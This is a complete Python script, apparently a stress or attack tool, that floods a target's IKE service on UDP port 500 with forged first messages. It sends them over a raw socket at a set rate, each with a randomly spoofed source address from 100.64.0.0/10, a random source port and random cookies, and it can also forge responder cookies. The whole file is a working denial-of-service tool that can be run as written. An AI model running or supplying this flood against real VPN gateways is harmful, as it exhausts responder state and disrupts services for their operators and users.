# flood.py TO RATE SECONDS: forged first messages of IKE to UDP port 500, each from an address and port that nobody has (100.64.0.0/10) and with an
# initiator's cookie of its own. The messages come as hex lines on stdin and are sent in turn; `second` as a fourth word fills in a responder's cookie that
# nobody gave, too. Ends after SECONDS or by SIGINT, and prints how many went out, and in how many seconds.
import os, random, signal, socket, struct, sys, time

to, rate, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
second = sys.argv[4:] == ['second']
messages = [bytes.fromhex(line) for line in sys.stdin.read().split()]
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
destination = socket.inet_aton(to)
heads = []
for message in messages:
    udp = 8 + len(message)
    # The kernel fills in the total length, the identification and the checksum; a UDP checksum of zero is none (RFC 768).
    heads.append((struct.pack('!BBHHHBBH', 0x45, 0, 20 + udp, 0, 0, 64, 17, 0), udp))
begin = time.monotonic()
sent = 0
ended = False

def end(*_):
    global ended
    ended = True

signal.signal(signal.SIGINT, end)
while not ended and (now := time.monotonic() - begin) < seconds:
    # What a busy machine kept us from sending is not made up for in one go.
    for _ in range(min(int(now * rate) - sent, rate // 50 + 1)):
        which = sent % len(messages)
        head, udp = heads[which]
        source = 0x64400000 | random.getrandbits(22)
        cookies = os.urandom(8) + (os.urandom(8) if second else bytes(8))
        packet = head + struct.pack('!L', source) + destination \
            + struct.pack('!HHHH', 1024 + random.getrandbits(15), 500, udp, 0) + cookies + messages[which][16:]
        try:
            raw.sendto(packet, (to, 0))
        except BlockingIOError:
            pass
        sent += 1
    time.sleep(0.002)
print(sent, time.monotonic() - begin)
